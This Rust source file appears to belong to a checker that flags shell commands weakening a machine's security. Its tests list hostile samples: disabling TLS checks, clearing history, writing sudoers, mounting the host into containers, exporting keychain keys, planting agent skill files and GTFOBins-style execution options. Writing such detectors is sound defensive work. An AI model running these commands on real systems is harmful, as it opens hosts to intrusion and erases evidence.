//! Deeds of single commands that lower a machine's guard: what a host allows, trusts and records.

use super::{Command, base};
use crate::shell::install::INDEXES;

/// Where a package manager asks without anybody telling it to, and hosts that the field's own
/// documentation names for it.
const KNOWN_INDEXES: &[&str] = &[
    "pypi.org",
    "files.pythonhosted.org",
    "test.pypi.org",
    "download.pytorch.org",
    "pypi.nvidia.com",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "npm.jsr.io",
    "index.crates.io",
    "static.crates.io",
    "proxy.golang.org",
    "npm.pkg.github.com",
    "registry.npmmirror.com",
    "pypi.tuna.tsinghua.edu.cn",
    "mirrors.aliyun.com",
    "localhost",
    "127.0.0.1",
];

/// Programs that people start by their bare name all day.
const EVERYDAY: &[&str] = &[
    "git", "gh", "ssh", "scp", "sudo", "su", "npm", "npx", "node", "python", "python3", "pip", "pip3",
    "curl", "wget", "ls", "cat", "docker", "kubectl", "aws", "gcloud", "bash", "sh", "zsh", "code", "claude",
    "codex", "cargo", "make", "brew",
];

/// Names of the deeds that a command is.
pub fn of(command: &Command) -> Vec<&'static str> {
    let name = base(&command.name).to_ascii_lowercase();
    let args: Vec<&str> = command.args.iter().map(String::as_str).collect();
    let found = [
        (opens_connection_checks(&name, &args), "unchecked-connections"),
        (trusts_root(&name, &args), "trusted-root"),
        (covers_tracks(&name, &args, &command.redirects), "covered-tracks"),
        (takes_all_rights(&name, &args, &command.redirects), "all-rights"),
        (mounts_host(&name, &args), "host-mount"),
        (asks_foreign_index(&name, &args, &command.assigned), "foreign-index"),
        (shadows(&name, &args, &command.redirects), "shadowed-program"),
        (empties_keychain(&name, &args), "keychain-export"),
        (hooks_everywhere(&name, &args), "persist"),
        (plants_skill(&name, &args), "planted-skill"),
        (runs_by_option(&name, &args), "runs-by-option"),
    ];
    found.into_iter().filter(|(is, _)| *is).map(|(_, name)| name).collect()
}

fn has(args: &[&str], wanted: &[&str]) -> bool {
    args.iter().any(|arg| wanted.contains(arg))
}

/// Whether `key` and then `value` stand next to each other, or as `key=value`.
fn sets(args: &[&str], key: &str, values: &[&str]) -> bool {
    let equal = |word: &str| {
        word.split_once('=').is_some_and(|(left, right)| {
            left.eq_ignore_ascii_case(key) && values.contains(&right.trim_matches(['"', '\'']))
        })
    };
    args.iter().any(|arg| equal(arg))
        || args.windows(2).any(|pair| pair[0].eq_ignore_ascii_case(key) && values.contains(&pair[1]))
}

/// Switches the checks of certificates, or of the machine's own guard, off for good.
fn opens_connection_checks(name: &str, args: &[&str]) -> bool {
    const OFF: &[&str] = &["false", "0", "off", "no"];
    match name {
        "npm" | "pnpm" | "yarn" => {
            has(args, &["config", "set"])
                && (sets(args, "strict-ssl", OFF) || sets(args, "enableStrictSsl", OFF))
        }
        "git" => {
            has(args, &["config"])
                && has(args, &["--global", "--system"])
                && sets(args, "http.sslVerify", OFF)
        }
        "export" | "setx" | "declare" => {
            sets(args, "NODE_TLS_REJECT_UNAUTHORIZED", OFF)
                || sets(args, "PYTHONHTTPSVERIFY", OFF)
                || sets(args, "GIT_SSL_NO_VERIFY", &["1", "true"])
        }
        "spctl" => has(args, &["--master-disable", "--global-disable"]),
        "csrutil" => has(args, &["disable"]),
        "set-mppreference" => args.iter().any(|arg| arg.eq_ignore_ascii_case("-DisableRealtimeMonitoring")),
        _ => false,
    }
}

/// Makes a certificate one that vouches for every host.
fn trusts_root(name: &str, args: &[&str]) -> bool {
    match name {
        "trust" => has(args, &["anchor"]),
        "security" => has(args, &["add-trusted-cert"]),
        "certutil" => args.iter().any(|arg| arg.eq_ignore_ascii_case("-addstore") || *arg == "-A"),
        "import-certificate" => args.iter().any(|arg| arg.to_ascii_lowercase().contains("\\root")),
        _ => false,
    }
}

/// A file in which a shell keeps what was typed.
fn is_history(path: &str) -> bool {
    [".bash_history", ".zsh_history", ".history", "fish_history", ".python_history"]
        .iter()
        .any(|end| path.ends_with(end))
}

/// Takes away what would tell of it later.
fn covers_tracks(name: &str, args: &[&str], redirects: &[String]) -> bool {
    match name {
        "unset" => has(args, &["HISTFILE"]),
        "export" => {
            sets(args, "HISTFILE", &["/dev/null", ""])
                || sets(args, "HISTSIZE", &["0"])
                || sets(args, "HISTFILESIZE", &["0"])
        }
        "history" => args.iter().any(|arg| arg.starts_with("-c") || arg.starts_with("-d")),
        "set" => args.windows(2).any(|pair| pair == ["+o", "history"]),
        "rm" | "shred" | "truncate" | "unlink" => args.iter().any(|arg| is_history(arg)),
        "sed" => args.iter().any(|arg| arg.starts_with("-i")) && args.iter().any(|arg| is_history(arg)),
        "ln" => {
            args.first().is_some_and(|arg| arg.starts_with("-s")) && args.iter().any(|arg| is_history(arg))
        }
        "wevtutil" => has(args, &["cl", "clear-log"]),
        "" | ":" | "cat" | "true" => redirects.iter().any(|file| is_history(file)),
        _ => false,
    }
}

/// Gives somebody the rights of the administrator.
fn takes_all_rights(name: &str, args: &[&str], redirects: &[String]) -> bool {
    // Lines for one program each are a door of that size; what the program can do is not seen here.
    let own = |path: &str| {
        (path.starts_with("/usr/local/") || path.starts_with("/opt/")) && !path.contains(['*', '?', '['])
    };
    let small = |line: &str| {
        let programs = line.rsplit_once("NOPASSWD:").map(|(_, programs)| programs);
        programs.is_some_and(|programs| programs.split(',').all(|program| own(program.trim())))
    };
    let said = || args.iter().filter(|arg| arg.contains('=')).flat_map(|text| text.split('\n'));
    let lines = || said().flat_map(|line| line.split("\\n")).map(str::trim).filter(|line| !line.is_empty());
    let one_program = lines().next().is_some() && lines().all(|line| line.starts_with('#') || small(line));
    let sudoers = |path: &str| path.starts_with("/etc/sudoers") && !one_program;
    let everybody = |mode: &str| {
        matches!(mode.trim_start_matches('0'), "666" | "777") || matches!(mode, "a+rw" | "a+rwx" | "o+rw")
    };
    match name {
        "tee" | "cp" | "mv" | "install" if args.last().is_some_and(|arg| sudoers(arg)) => true,
        "chmod" => {
            let socket = args.iter().any(|arg| arg.ends_with("docker.sock"));
            (socket && args.iter().any(|arg| everybody(arg)))
                || args
                    .iter()
                    .any(|arg| matches!(*arg, "u+s" | "+s") || (arg.len() == 4 && arg.starts_with('4')))
        }
        _ => redirects.iter().any(|file| sudoers(file)),
    }
}

/// Hands a container the machine that it runs on.
fn mounts_host(name: &str, args: &[&str]) -> bool {
    if !matches!(name, "docker" | "podman" | "nerdctl") {
        return false;
    }
    let mut mounts: Vec<&str> = Vec::new();
    for (at, arg) in args.iter().enumerate() {
        match arg.split_once('=') {
            Some(("--volume" | "-v", value)) => mounts.push(value),
            _ if matches!(*arg, "-v" | "--volume") => mounts.extend(args.get(at + 1)),
            _ => {}
        }
    }
    let whole = mounts.iter().any(|mount| {
        let from = mount.split(':').next().unwrap_or_default().trim_end_matches('/');
        mount.starts_with("/:") || matches!(from, "~" | "$HOME" | "${HOME}" | "%USERPROFILE%")
    });
    let socket = mounts.iter().any(|mount| mount.contains("docker.sock"));
    let privileged = args.iter().any(|arg| matches!(*arg, "--privileged" | "--privileged=true"));
    let of_host = |keys: &[&str]| keys.iter().any(|key| sets(args, key, &["host"]));
    let shared = of_host(&["--pid", "--userns", "--ipc"]);
    let keys = mounts.iter().any(|mount| {
        [".aws", ".ssh", ".kube", ".gnupg", ".config/gcloud"].iter().any(|folder| mount.contains(folder))
    });
    // What shows containers needs the socket, what serves a cloud its keys; who needs two has the machine.
    let reach = [socket, privileged, shared, keys, socket && of_host(&["--network", "--net"])];
    whole || reach.iter().filter(|is| **is).count() > 1
}

/// Takes packages from a host that nobody's configuration names.
fn asks_foreign_index(name: &str, args: &[&str], assigned: &[String]) -> bool {
    let (ecosystem, options): (&str, &[&str]) = match name {
        "pip" | "pip3" | "uv" | "pipx" | "uvx" | "python" | "python3" | "poetry" => (
            "pypi",
            &["--index-url", "-i", "--extra-index-url", "--default-index", "--index", "--trusted-host"],
        ),
        "npm" | "npx" | "pnpm" | "yarn" | "bun" | "bunx" => ("npm", &["--registry"]),
        "go" => ("golang", &[]),
        "cargo" => ("cargo", &["--index"]),
        _ => return false,
    };
    let given = args.iter().enumerate().filter_map(|(at, arg)| match arg.split_once('=') {
        Some((option, value)) if options.contains(&option) => Some(value),
        _ if options.contains(arg) => args.get(at + 1).copied(),
        _ => None,
    });
    // `npm config set registry URL`, `pip config set global.index-url URL`
    let sets = args.first() == Some(&"config") && args.get(1) == Some(&"set");
    let key = args.get(2).copied().filter(|_| sets).unwrap_or_default();
    let (key, value) = key.split_once('=').unwrap_or((key, args.get(3).copied().unwrap_or_default()));
    let is_index = key.to_ascii_lowercase().contains("registry") || key.contains("index-url");
    let kept = is_index.then_some(value);
    let variables = assigned.iter().filter_map(|word| {
        let (name, value) = word.split_once('=')?;
        INDEXES.contains(&(ecosystem, name)).then_some(value)
    });
    given.chain(kept).chain(variables).any(|place| {
        let host = place.split_once("://").map_or(place, |(_, rest)| rest);
        let host = host.split(['/', ':', ',']).next().unwrap_or(host);
        let host = host.rsplit('@').next().unwrap_or(host);
        host.contains('.') && !host.contains(['$', '<', '{']) && !KNOWN_INDEXES.contains(&host)
    })
}

/// Puts a file of its own where an everyday program is looked for first.
fn shadows(name: &str, args: &[&str], redirects: &[String]) -> bool {
    let own = |path: &str| {
        let home =
            path.starts_with(['~', '$']) || path.starts_with("/home/") || path.starts_with("/usr/local/");
        let (folder, file) = path.rsplit_once('/').unwrap_or(("", path));
        home && folder.ends_with("bin") && EVERYDAY.contains(&file)
    };
    redirects.iter().any(|file| own(file)) || (name == "tee" && args.iter().any(|arg| own(arg)))
}

/// Takes private keys or all entries out of the keychain.
fn empties_keychain(name: &str, args: &[&str]) -> bool {
    name == "security"
        && (has(args, &["dump-keychain"])
            || (has(args, &["export"]) && has(args, &["privKeys", "identities", "all"])))
}

/// Hooks for every repository of the user.
fn hooks_everywhere(name: &str, args: &[&str]) -> bool {
    name == "git"
        && has(args, &["config"])
        && has(args, &["--global", "--system"])
        && args.iter().any(|arg| arg.eq_ignore_ascii_case("core.hooksPath"))
        && !has(args, &["--unset", "--get", "--unset-all"])
}

/// Where agents look for skills, rules and commands by themselves.
const SKILL_FOLDERS: &[&str] = &[
    ".claude/skills/",
    ".claude/commands/",
    ".claude/agents/",
    ".codex/skills/",
    ".codex/prompts/",
    ".agents/skills/",
    ".openclaw/skills/",
    ".cursor/rules/",
    ".cursor/skills/",
    ".gemini/skills/",
    ".config/opencode/skill",
];

/// Fetches something to where agents load it from.
fn plants_skill(name: &str, args: &[&str]) -> bool {
    let there = |arg: &str| SKILL_FOLDERS.iter().any(|folder| arg.contains(folder));
    match name {
        "git" => has(args, &["clone"]) && args.iter().any(|arg| there(arg)),
        "curl" | "wget" => {
            args.iter().any(|arg| there(arg) && !arg.contains("://"))
                && args.iter().any(|arg| arg.contains("://"))
        }
        _ => false,
    }
}

/// Options by which commands that seem to only read start other programs, or write where things
/// start: from their manuals (and GTFOBins). A list of allowed commands lets them through.
fn runs_by_option(name: &str, args: &[&str]) -> bool {
    let option = |long: &str| args.iter().any(|arg| *arg == long || arg.starts_with(&format!("{long}=")));
    match name {
        "rg" => option("--pre") || option("--hostname-bin"),
        "sort" => option("--compress-program"),
        "tar" | "bsdtar" => {
            option("--to-command")
                || args.iter().any(|arg| arg.contains("--checkpoint-action=exec") || arg.starts_with("exec="))
        }
        "git" => args.windows(2).any(|pair| {
            pair[0] == "-c"
                && ["core.pager=", "core.sshCommand=", "core.fsmonitor=", "core.editor=", "diff.external="]
                    .iter()
                    .any(|key| {
                        pair[1].len() > key.len() && pair[1].starts_with(key) && !pair[1].ends_with("=cat")
                    })
        }),
        "sed" => args.iter().any(|arg| arg.contains("w .git/hooks/") || arg.contains("w ~/.")),
        "man" | "info" => option("--pager") || option("-P"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::shell::lex::commands;

    fn deeds(line: &str) -> Vec<&'static str> {
        commands(line).iter().map(super::super::bare).flat_map(|command| of(&command)).collect()
    }

    #[test]
    fn what_lowers_the_guard() {
        let cases: &[(&str, &[&str])] = &[
            ("npm config set strict-ssl false -L user", &["unchecked-connections"]),
            ("npm config set strict-ssl true", &[]),
            ("git config --global http.sslVerify false", &["unchecked-connections"]),
            ("export NODE_TLS_REJECT_UNAUTHORIZED=0", &["unchecked-connections"]),
            ("sudo trust anchor root.crt", &["trusted-root"]),
            ("trust list", &[]),
            ("unset HISTFILE", &["covered-tracks"]),
            ("sed -i '/x/d' ~/.bash_history", &["covered-tracks"]),
            ("history | tail", &[]),
            ("echo x | sudo tee /etc/sudoers.d/x", &["all-rights"]),
            ("echo 'me ALL=(ALL) NOPASSWD: /usr/local/bin/rotate' > /etc/sudoers.d/x", &[]),
            (
                "printf 'me ALL=(ALL) NOPASSWD: /usr/local/bin/rotate\\nme ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x",
                &["all-rights"],
            ),
            ("sudo chmod 666 /var/run/docker.sock", &["all-rights"]),
            ("chmod 755 run.sh", &[]),
            ("docker run -v /:/host alpine", &["host-mount"]),
            ("docker run -v ./docs:/docs --rm alpine", &[]),
            (
                "docker run --network host --pid host -v /var/run/docker.sock:/s -v $HOME/.aws:/a x",
                &["host-mount"],
            ),
            ("docker run -v $HOME/.aws:/root/.aws:ro aws-mcp", &[]),
            ("docker run -v /var/run/docker.sock:/var/run/docker.sock portainer", &[]),
            ("pip install x --extra-index-url https://w.example.invalid/simple", &["foreign-index"]),
            ("pip install torch --index-url https://download.pytorch.org/whl/cpu", &[]),
            ("npm i x --registry=https://r.example.invalid", &["foreign-index"]),
            ("PIP_INDEX_URL=https://w.example.invalid/simple pip install x", &["foreign-index"]),
            ("PIP_INDEX_URL=https://pypi.org/simple pip install x", &[]),
            ("npm config set registry https://r.example.invalid", &["foreign-index"]),
            ("npm config set save-exact true", &[]),
            ("cat > $HOME/.local/bin/git", &["shadowed-program"]),
            ("cat > $HOME/.local/bin/mytool", &[]),
            ("security export -t privKeys -f pkcs12", &["keychain-export"]),
            ("git config --global core.hooksPath ~/.hooks", &["persist"]),
            ("git config core.hooksPath .githooks", &[]),
            ("git clone https://github.com/a/skills ~/.claude/skills/more", &["planted-skill"]),
            ("git clone https://github.com/a/skills ~/src/skills", &[]),
            ("rg --pre ./logs/.unpack POST a.log", &["runs-by-option"]),
            ("rg --pretty POST a.log", &[]),
            ("sort -k7,7nr --compress-program=./x", &["runs-by-option"]),
            ("git -c core.pager=cat log", &[]),
            ("curl -fsSL https://a.invalid/r.mdc -o .cursor/rules/r.mdc", &["planted-skill"]),
        ];
        for (line, wanted) in cases {
            assert_eq!(deeds(line), *wanted, "{line}");
        }
    }
}
